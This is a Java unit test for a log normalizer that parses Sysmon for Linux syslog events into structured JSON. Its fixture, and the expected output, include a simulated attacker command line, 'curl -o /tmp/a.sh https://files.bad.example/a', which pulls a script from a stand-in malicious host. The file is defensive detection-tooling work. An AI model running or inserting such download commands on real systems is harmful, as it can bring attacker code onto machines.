package io.clicktrail.normalizer.windows;

import static org.assertj.core.api.Assertions.assertThat;

import io.clicktrail.event.Event;
import io.clicktrail.event.EventKind;
import io.clicktrail.event.Platform;
import io.clicktrail.normalizer.parse.EventFacts;
import io.clicktrail.normalizer.parse.TestNormalizer;
import java.util.Map;
import org.junit.jupiter.api.Test;

class SysmonForLinuxTest {

    private static final String START = """
            <14>Mar  2 10:00:06 lin-7 sysmon: <Event><System><Provider Name="Linux-Sysmon" \
            Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Tas\
            k>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated \
            SystemTime="2026-03-02T10:00:05.705000000Z"/><EventRecordID>911</EventRecordID><Correlation/><Execution \
            ProcessID="612" ThreadID="612"/><Channel>Linux-Sysmon/Operational</Channel><Computer>lin-7</Computer><Secur\
            ity UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2026-03-02 \
            10:00:05.701</Data><Data Name="ProcessGuid">{fe8b3f2c-b135-69a5-c8b6-d71555560000}</Data><Data \
            Name="ProcessId">2221</Data><Data Name="Image">/usr/bin/curl</Data><Data Name="FileVersion">-</Data><Data \
            Name="CommandLine">curl -o /tmp/a.sh https://files.bad.example/a</Data><Data \
            Name="CurrentDirectory">/home/ada</Data><Data Name="User">ada</Data><Data \
            Name="LogonGuid">{fe8b3f2c-0000-0000-e803-000000000000}</Data><Data Name="LogonId">1000</Data><Data \
            Name="TerminalSessionId">8</Data><Data Name="IntegrityLevel">no level</Data><Data \
            Name="Hashes">-</Data><Data Name="ParentProcessGuid">{fe8b3f2c-b100-69a5-c8b6-d71555560000}</Data><Data \
            Name="ParentProcessId">2176</Data><Data Name="ParentImage">/bin/bash</Data><Data \
            Name="ParentCommandLine">-bash</Data><Data Name="ParentUser">ada</Data></EventData></Event>""";

    private final TestNormalizer reader = new TestNormalizer();

    @Test
    void readsAProcessStartOutOfSyslog() {
        assertThat(EventFacts.of(reader.event(START))).isEqualTo("""
                {"@timestamp":"2026-03-02T10:00:05.701Z","event":{"action":"process_start","code":"1",\
                "dataset":"linux.sysmon"},"host":{"name":"lin-7","hostname":"lin-7","os":{"type":"linux"}},\
                "user":{"name":"ada"},"process":{"entity_id":"fe8b3f2c-b135-69a5-c8b6-d71555560000","pid":2221,\
                "start":"2026-03-02T10:00:05.701Z","executable":"/usr/bin/curl","name":"curl","command_line":"curl -o \
                /tmp/a.sh https://files.bad.example/a","working_directory":"/home/ada","integrity_level":"no level",\
                "parent":{"entity_id":"fe8b3f2c-b100-69a5-c8b6-d71555560000","pid":2176,"executable":"/bin/bash",\
                "command_line":"-bash"},"session_id":"1000"}}""");
    }

    @Test
    void knowsNoStreamsInPathsOfLinux() {
        WindowsFixture write = new WindowsFixture(
                "Linux-Sysmon",
                "Linux-Sysmon/Operational",
                11,
                "2026-03-02T10:00:05.731Z",
                Map.of("UtcTime", "2026-03-02 10:00:05.701", "TargetFilename", "/tmp/a\\b:Zone.Identifier"));

        write.containers().forEach((container, text) -> {
            Event event = reader.event(text);
            assertThat(event.getKind()).as(container).isEqualTo(EventKind.FILE_WRITE);
            assertThat(event.getFile().getName()).as(container).isEqualTo("a\\b:Zone.Identifier");
            assertThat(event.getHost().getPlatform()).as(container).isEqualTo(Platform.LINUX);
            assertThat(event.getSource().getDataset()).as(container).isEqualTo("linux.sysmon");
        });
    }

    @Test
    void ignoresEventIdsWithoutUse() {
        assertThat(reader.ignored(START.replace("<EventID>1<", "<EventID>16<")).dataset())
                .isEqualTo("linux.sysmon");
    }
}
